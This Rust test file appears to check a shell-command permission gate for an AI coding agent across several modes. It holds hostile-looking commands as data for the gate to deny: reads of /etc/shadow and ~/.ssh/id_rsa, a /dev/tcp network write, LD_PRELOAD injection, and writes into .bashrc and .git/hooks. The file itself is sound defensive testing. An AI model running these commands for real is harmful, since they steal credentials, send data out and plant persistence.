//! The session's stance (R4.1): the last word, and never a milder one than was gathered.

use proptest::{prelude::*, sample::select};
use shellward::{
    Call,
    decide::{Decision, Situation, Standing, Step, decide},
    judge::{Mode, Verdict},
    rules::Wish,
};

use crate::support::{rules, situation};

const MODES: [Mode; 4] = [Mode::Default, Mode::Plan, Mode::AcceptEdits, Mode::DontAsk];

fn in_mode(mode: Mode) -> Situation {
    Situation {
        mode,
        ..situation()
    }
}

fn decision(command: &str, situation: &Situation) -> Decision {
    decide(Call::new(command).unwrap(), situation).into_decision()
}

fn verdict(command: &str, mode: Mode) -> (Verdict, Step) {
    let decision = decision(command, &in_mode(mode));
    (decision.verdict, decision.reason.step)
}

#[test]
fn plan_lets_only_harmless_commands_run() {
    assert_eq!(
        verdict("git status | head", Mode::Plan),
        (Verdict::Allow, Step::Harmless)
    );
    for command in [
        "touch x",
        "make",
        "cat /etc/shadow",
        "echo x > out",
        "ls > \"$F\"",
    ] {
        assert_eq!(
            verdict(command, Mode::Plan),
            (Verdict::Deny, Step::Mode),
            "{command}"
        );
    }
    let mut allowed = in_mode(Mode::Plan);
    rules(&mut allowed.rules, Wish::Allow, &["Bash(make:*)"]);
    assert_eq!(decision("make", &allowed).verdict, Verdict::Deny);
}

#[test]
fn dont_ask_denies_what_would_be_asked_and_says_what_that_was() {
    let decision = decision("make", &in_mode(Mode::DontAsk));
    assert_eq!(
        (decision.verdict, decision.reason.step),
        (Verdict::Deny, Step::Mode)
    );
    let outranked = decision
        .trace
        .iter()
        .find(|entry| entry.reason.step == Step::NoSource);
    let outranked = outranked.unwrap();
    assert_eq!(outranked.standing, Standing::Outranked);
    assert!(decision.reason.message.contains(&outranked.reason.message));
    assert_eq!(decision.reason.span, outranked.reason.span);
    let mut allowed = in_mode(Mode::DontAsk);
    rules(&mut allowed.rules, Wish::Allow, &["Bash(make:*)"]);
    assert_eq!(self::decision("make", &allowed).verdict, Verdict::Allow);
}

#[test]
fn accept_edits_takes_plain_edits_for_granted() {
    for command in [
        "mkdir -p src/x",
        "touch a b",
        "echo hi > src/a.txt",
        "cat <<'A' > src/n.txt\nx\nA\n",
        "rm a.txt",
        "mv src/a src/b",
        "cp a b",
        "sed -i s/a/b/ f",
        "mkdir x && ls && cp a x",
        "X=1; touch \"$X\"",
        "tee f < g",
    ] {
        assert_eq!(
            verdict(command, Mode::AcceptEdits),
            (Verdict::Allow, Step::AcceptEdits),
            "{command}"
        );
        assert_eq!(verdict(command, Mode::Default).0, Verdict::Ask, "{command}");
    }
}

#[test]
fn accept_edits_takes_nothing_else_for_granted() {
    for command in [
        "rm -rf build",
        "touch ../x",
        "echo x >> ~/.bashrc",
        "cp a .git/hooks/x",
        "mv a .git/config",
        "touch $F",
        "git add .",
        "make",
        "mkdir x && make",
        "mkdir x && git status",
        "PATH=. touch y",
        "LD_PRELOAD=./x.so touch y",
        "tar xf a.tar",
        "cp -r src .",
        "find . -delete",
        "sed -i 's/a/b/e' f",
        "curl -o a https://x.example/",
        "sudo touch a",
        "cp /etc/passwd a",
        "rm *",
        "echo x > /dev/tcp/x.example/1",
        "mytool a",
    ] {
        assert_ne!(
            verdict(command, Mode::AcceptEdits).0,
            Verdict::Allow,
            "{command}"
        );
    }
    let mut denied = in_mode(Mode::AcceptEdits);
    rules(&mut denied.rules, Wish::Deny, &["Edit(a)"]);
    assert_eq!(decision("touch a", &denied).verdict, Verdict::Deny);
    let mut asked = in_mode(Mode::AcceptEdits);
    rules(&mut asked.rules, Wish::Ask, &["Bash(touch:*)"]);
    assert_eq!(decision("touch a", &asked).verdict, Verdict::Ask);
}

const PARTS: [&str; 9] = [
    "ls -la",
    "git status",
    "cat /etc/passwd",
    "rm -rf build",
    "touch x",
    "npm test",
    "echo x > out",
    "cat ~/.ssh/id_rsa",
    "$CMD y",
];
const RULES: [&str; 6] = [
    "Bash(npm test)",
    "Bash(git:*)",
    "Bash(touch x)",
    "Bash(echo:*)",
    "Edit(x)",
    "Bash(*)",
];

fn situation_with(mode: Mode, list: &[(Wish, &str)]) -> Situation {
    let mut situation = in_mode(mode);
    for (wish, rule) in list {
        let allows_place = *wish == Wish::Allow && rule.starts_with("Edit");
        if !allows_place {
            rules(&mut situation.rules, *wish, &[rule]);
        }
    }
    situation
}

fn rule_list() -> impl Strategy<Value = Vec<(Wish, &'static str)>> {
    let wish = select(vec![Wish::Allow, Wish::Ask, Wish::Deny]);
    prop::collection::vec((wish, select(&RULES[..])), 0..3)
}

fn commands() -> impl Strategy<Value = String> {
    prop::collection::vec(select(&PARTS[..]), 1..4).prop_map(|parts| parts.join(" && "))
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 100, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn no_mode_hides_a_gathered_deny(
        command in commands(),
        list in rule_list(),
        mode in select(&MODES[..]),
    ) {
        let decision = decision(&command, &situation_with(mode, &list));
        let gathered = decision.trace.iter().any(|entry| entry.verdict == Verdict::Deny);
        prop_assert_eq!(gathered, decision.verdict == Verdict::Deny);
    }

    #[test]
    fn a_deny_rule_more_never_weakens_in_any_mode(
        command in commands(),
        list in rule_list(),
        rule in select(&RULES[..]),
        mode in select(&MODES[..]),
    ) {
        let before = decision(&command, &situation_with(mode, &list)).verdict;
        let mut more = list;
        more.push((Wish::Deny, rule));
        let after = decision(&command, &situation_with(mode, &more)).verdict;
        prop_assert!(after >= before, "{mode}: {before} became {after}");
    }

    #[test]
    fn plan_and_dont_ask_are_never_milder(command in commands(), list in rule_list()) {
        let plain = decision(&command, &situation_with(Mode::Default, &list)).verdict;
        for mode in [Mode::Plan, Mode::DontAsk] {
            let strict = decision(&command, &situation_with(mode, &list)).verdict;
            prop_assert!(strict >= plain, "{mode}: {plain} became {strict}");
        }
    }

    #[test]
    fn no_suggestion_opens_an_interpreter_or_a_wrapper(
        program in select(&["bash", "sh", "python3", "node", "sudo", "env", "xargs", "perl", "npx", "timeout", "ssh"][..]),
        rest in "[a-z./-]{1,8}( [a-z./-]{1,8}){0,2}",
    ) {
        let decision = decision(&format!("{program} {rest}"), &situation());
        for rule in decision.suggestions.iter().flat_map(|one| &one.rules) {
            prop_assert!(!rule.starts_with(&format!("Bash({program}")) || !rule.contains('*'), "{rule}");
            let alone = format!("Bash({program})");
            prop_assert_ne!(rule, &alone);
        }
    }
}
